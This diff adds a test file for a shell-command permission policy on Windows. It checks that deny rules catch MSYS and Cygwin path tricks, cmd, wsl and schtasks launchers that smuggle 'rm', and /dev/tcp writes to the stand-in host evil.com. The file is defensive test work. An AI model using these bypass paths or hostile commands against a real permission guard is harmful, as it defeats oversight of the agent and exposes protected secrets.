@@ -1,0 +1,76 @@
+// bash lines on win32 (Git Bash, MSYS2, Cygwin): their programs read POSIX-form paths the MSYS
+// way (src/paths/msys-path.ts), and Windows launchers run their lines (windows-launchers.ts).
+// A UNC server without a share is reached too. Found by a review (hunt 3 F5, F6, F8, F10): each denied or asking line here was allowed beside the
+// deny rule it meets.
+import { describe, expect, it } from 'vitest';
+import { compilePolicy, decide, loadSettingsValue } from '../src/index.js';
+
+const RULES = {
+  deny: ['Shell(rm *)', 'Read(//etc/**)', 'Read(~/.ssh/**)', 'Read(//c/Secrets/**)', 'Edit(//c/Windows/**)', 'Domain(evil.com)'],
+  allow: ['Shell(*)', 'Edit(//c/**)'],
+};
+const POLICY = compilePolicy([{ loaded: loadSettingsValue({ permissions: RULES }, { file: 'b.json', channel: 'file' }) }]);
+const WINDOWS = { cwd: 'C:\\w\\repo', workspace: ['C:\\w\\repo'], home: 'C:\\Users\\dev', platform: 'win32' as const };
+
+function decision(line: string, shell: 'bash' | 'powershell' = 'bash'): string {
+  return decide(POLICY, { op: 'shell', command: line, shell }, WINDOWS).decision;
+}
+
+describe('MSYS/Cygwin paths in a bash line on win32', () => {
+  it.each([
+    // `..` climbs to the POSIX root `/`, whose `c` is drive C: (from /c/w/repo).
+    ['cat ../../../c/Secrets/x', 'deny'], ['cp x ../../../c/Windows/system32/x', 'deny'],
+    ['cat /./c/Secrets/x', 'deny'], ['cat /c/../c/Secrets/x', 'deny'], ['cat /dev/../c/Secrets/x', 'deny'],
+    ['cat /usr/../c/Secrets/x', 'deny'], ['cat ~/../../../c/Secrets/x', 'deny'],
+    ['cd ../../.. && cat c/Secrets/x', 'deny'], ['cd /c/.. && cat c/Secrets/x', 'deny'], ['cd /c && cat ../c/Secrets/x', 'deny'],
+    ['grep -r x ../../../c/Secrets', 'deny'], ['cat ../../../c/Secrets/*', 'ask'],
+    // Cygwin's drive prefixes; /proc/PID/root is `/`.
+    ['cat /cygdrive/c/Secrets/x', 'deny'], ['cp x /cygdrive/c/Windows/x', 'deny'], ['cat /proc/cygdrive/c/Secrets/x', 'deny'],
+    ['cat /CYGDRIVE/C/Secrets/x', 'deny'], ['cat /proc/self/root/c/Secrets/x', 'deny'], ['cat /proc/self/root/cygdrive/c/Secrets/x', 'deny'],
+    // A process's links and the NT object namespace may lead anywhere.
+    ['cat /proc/self/cwd/../../Secrets/x', 'ask'], ['cat /proc/1/cwd/x', 'ask'], ['cat /proc/self/fd/3', 'ask'], ['cat /dev/fd/3', 'ask'],
+    ['cat /proc/sys/DosDevices/C:/Secrets/x', 'ask'], ['cat "/proc/sys/GLOBAL??/C:/Secrets/x"', 'ask'],
+    ['cat /proc/sys/Device/HarddiskVolume3/Secrets/x', 'ask'],
+    // Ordinary lines stay allowed.
+    ['cat ../x.txt', 'allow'], ['cat ./a.txt', 'allow'], ['ls ..', 'allow'], ['cd .. && cat ./x', 'allow'], ['cat /tmp/x', 'allow'],
+    ['cat /proc/cpuinfo', 'allow'], ['cat /c/w/repo/../other/x', 'allow'], ['cp a.txt ../b.txt', 'allow'], ['git status', 'allow'],
+  ] as const)('%s -> %s', (line, expected) => {
+    expect(decision(line)).toBe(expected);
+  });
+
+  it('a PowerShell line reads such paths as Windows does (`..` stops at the drive)', () => {
+    expect(decision('Get-Content ../../../c/Secrets/x', 'powershell')).toBe('allow');
+  });
+});
+
+describe('Windows launchers in a bash line', () => {
+  it.each([
+    // cmd /c, /k, /r (attached too, MSYS's //c): never allowed, its line read for deny rules; bare cmd reads stdin.
+    ['cmd.exe /c rm x', 'deny'], ['cmd /C "rm x"', 'deny'], ['CMD /C rm x', 'deny'], ['cmd /s /c "rm x"', 'deny'], ['cmd /v:on /c rm x', 'deny'],
+    ['cmd.exe /k rm x', 'deny'], ['cmd /r rm x', 'deny'], ['cmd /c"rm x"', 'deny'], ['cmd //c rm x', 'deny'], ['cmd', 'ask'], ['cmd //c dir', 'ask'],
+    // wsl runs its command in a distribution (whose paths are not placed: never allowed); without one, a shell on stdin.
+    ['wsl rm x', 'deny'], ['wsl.exe -e rm x', 'deny'], ['wsl -- rm x', 'deny'], ['wsl --exec rm x', 'deny'], ['wsl -d Ubuntu -u root rm x', 'deny'],
+    ['wsl cat /mnt/c/Secrets/x', 'ask'], ['wsl', 'ask'], ['wsl -d Ubuntu', 'ask'], ['wsl --list', 'allow'],
+    // MSYS's start runs cmd's start; winpty runs its command; sc is sc.exe.
+    ['start rm x', 'deny'], ['start "" rm x', 'deny'], ['start //b rm x', 'deny'], ['start x.bat', 'ask'],
+    ['winpty rm x', 'deny'], ['winpty -Xallow-non-tty rm x', 'deny'], ['winpty node app.js', 'allow'],
+    ['sc create x binPath= "rm x"', 'deny'], ['sc query', 'allow'],
+    // `//x` is `/x` for a Windows tool (and schtasks takes `-x`).
+    ['schtasks //create //tn x //tr "rm x" //sc once //st 00:00', 'deny'], ['schtasks -create -tn x -tr "rm x"', 'deny'], ['mstsc //v:evil.com', 'deny'],
+    ['npm start', 'allow'], ['git status', 'allow'],
+  ] as const)('%s -> %s', (line, expected) => {
+    expect(decision(line)).toBe(expected);
+  });
+});
+
+describe('a UNC server without a share in a bash line reaches the server (Cygwin lists its shares)', () => {
+  it.each([
+    ['ls //evil.com', 'deny'], ['ls -la //evil.com/', 'deny'], ['cd //evil.com', 'deny'], ['test -d //evil.com', 'deny'], ['find //evil.com', 'deny'],
+    ["ls '\\\\evil.com'", 'deny'], ['cat //evil.com', 'deny'],
+    // (Git Bash opens /dev/tcp/HOST/PORT as a connection, as bash elsewhere.)
+    ['echo x > /dev/tcp/evil.com/80', 'deny'], ['cat < /dev/udp/evil.com/53', 'deny'],
+    ['ls //localhost', 'allow'], ['ls //good.com', 'allow'], ['cscript //nologo x.vbs', 'allow'], ['echo //evil.com', 'allow'],
+  ] as const)('%s -> %s', (line, expected) => {
+    expect(decision(line)).toBe(expected);
+  });
+});
